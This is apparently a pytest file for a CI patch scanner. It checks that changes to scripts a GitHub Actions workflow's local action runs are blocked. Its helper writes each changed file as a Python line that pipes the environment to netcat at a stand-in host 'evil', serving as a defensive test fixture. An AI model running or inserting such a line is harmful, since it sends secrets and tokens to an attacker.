"""The files a local action runs are blocked wherever they lie (the attacker's pass over
issue 32's row 5): a composite step of an action a base workflow ``uses:`` runs
``$GITHUB_ACTION_PATH/x.sh``, a step variable set to ``${{ github.action_path }}``, or a
script by its path from the checkout's root (``run: python scripts/prep.py``) — each with the
workflow's token and secrets, as surely as a file inside the action's folder. Before the fix
only ``${{ github.action_path }}/FILE`` of the root action counted."""

from __future__ import annotations

from pathlib import Path

import pytest

from chimera.github.scan import ScanResult, scan_patch
from chimera.testing.patches import BASE, make_patch, write

ROOT_USES = "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./\n"
TOOLS_USES = (
    "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./tools/ci\n"
)


def _composite(*runs: str, env: str = "", cwd: str = "") -> str:
    steps = "".join(
        f"    - run: {run}\n      shell: bash\n"
        + (f"      env:\n        {env}\n" if env else "")
        + (f"      working-directory: {cwd}\n" if cwd else "")
        for run in runs
    )
    return f"runs:\n  using: composite\n  steps:\n{steps}"


def _blocked_paths(result: ScanResult) -> set[str]:
    return {f.path for f in result.blocked if f.rule == "action-path"}


def _scan(tmp_path: Path, base: dict[str, str], changed: str) -> ScanResult:
    patch = make_patch(
        tmp_path, write({changed: "import os\nos.system('env | nc evil 1')\n"}), base
    )
    return scan_patch(patch.text, workspace=str(patch.root), base=patch.base)


@pytest.mark.parametrize(
    ("manifest", "uses", "action", "changed"),
    [
        # The root action (`uses: ./`): the runner's variable, braced or not.
        ("action.yml", ROOT_USES, _composite('bash "$GITHUB_ACTION_PATH/scripts/ci.sh"'),
         "scripts/ci.sh"),
        ("action.yml", ROOT_USES, _composite('bash "${GITHUB_ACTION_PATH}/scripts/ci.sh"'),
         "scripts/ci.sh"),
        # A step variable set to the action's folder (what Chimera's own action.yml does).
        ("action.yml", ROOT_USES,
         _composite('bash "$AP/scripts/ci.sh"', env="AP: ${{ github.action_path }}"),
         "scripts/ci.sh"),
        # A script by its path from the checkout's root (a composite step's default folder).
        ("action.yml", ROOT_USES, _composite("bash scripts/ci.sh"), "scripts/ci.sh"),
        ("action.yml", ROOT_USES, _composite("./scripts/ci.sh --fast"), "scripts/ci.sh"),
        # ... or from its working-directory.
        ("action.yml", ROOT_USES, _composite("python prep.py", cwd="tools"), "tools/prep.py"),
        # An action in a folder running a script outside it.
        ("tools/ci/action.yml", TOOLS_USES, _composite("python scripts/prep.py"),
         "scripts/prep.py"),
        ("tools/ci/action.yml", TOOLS_USES,
         _composite('bash "$GITHUB_ACTION_PATH/../shared/run.sh"'), "tools/shared/run.sh"),
        ("tools/ci/action.yml", TOOLS_USES, "runs:\n  using: node20\n  main: ../lib/index.js\n",
         "tools/lib/index.js"),
    ],
    ids=["action-path-var", "action-path-braced", "step-alias", "relative-script",
         "dot-slash-script", "working-directory", "outside-its-folder", "dot-dot-from-folder",
         "js-main-outside"],
)  # fmt: skip
def test_a_file_a_used_action_runs_is_blocked(
    tmp_path: Path, manifest: str, uses: str, action: str, changed: str
) -> None:
    base = {
        **BASE,
        ".github/workflows/ci.yml": uses,
        manifest: action,
        "scripts/ci.sh": "echo ci\n",
        "scripts/prep.py": "print('prep')\n",
        "tools/prep.py": "print('prep')\n",
        "tools/shared/run.sh": "echo run\n",
        "tools/lib/index.js": "console.log(1)\n",
    }
    result = _scan(tmp_path, base, changed)
    assert result.verdict == "block", result.findings
    assert changed in _blocked_paths(result), result.findings
    (finding,) = [f for f in result.blocked if f.path == changed and f.rule == "action-path"]
    assert "which runs it" in finding.reason


def test_a_script_a_used_action_names_is_blocked_even_before_it_exists(tmp_path: Path) -> None:
    base = {
        **BASE,
        ".github/workflows/ci.yml": ROOT_USES,
        "action.yml": _composite("bash scripts/setup.sh || true"),
    }
    assert "scripts/setup.sh" in _blocked_paths(_scan(tmp_path, base, "scripts/setup.sh"))


def test_what_no_action_runs_stays_allowed(tmp_path: Path) -> None:
    """Words that merely look like paths, files no step names, and the rest of an action's
    own repository are not protected (the root action's code under test stays changeable)."""
    base = {
        **BASE,
        ".github/workflows/ci.yml": ROOT_USES,
        "action.yml": _composite(
            "echo docs/guide is built elsewhere; pip install .; python -m app.calc"
        ),
        "docs/guide": "words\n",
    }
    for changed in ("app/calc.py", "bin/tool.sh", "README.md"):
        result = _scan(tmp_path / changed.replace("/", "-"), base, changed)
        assert changed not in _blocked_paths(result), (changed, result.findings)
    # `docs/guide` exists at the base and is named: protected, as a file a step could read.
    assert "docs/guide" in _blocked_paths(_scan(tmp_path / "guide", base, "docs/guide"))


def test_an_unused_action_protects_nothing_it_names(tmp_path: Path) -> None:
    base = {
        **BASE,
        ".github/workflows/ci.yml": TOOLS_USES,
        "tools/ci/action.yml": _composite("true"),
        "tools/other/action.yml": _composite("bash scripts/ci.sh"),
        "scripts/ci.sh": "echo ci\n",
    }
    assert "scripts/ci.sh" not in _blocked_paths(_scan(tmp_path, base, "scripts/ci.sh"))
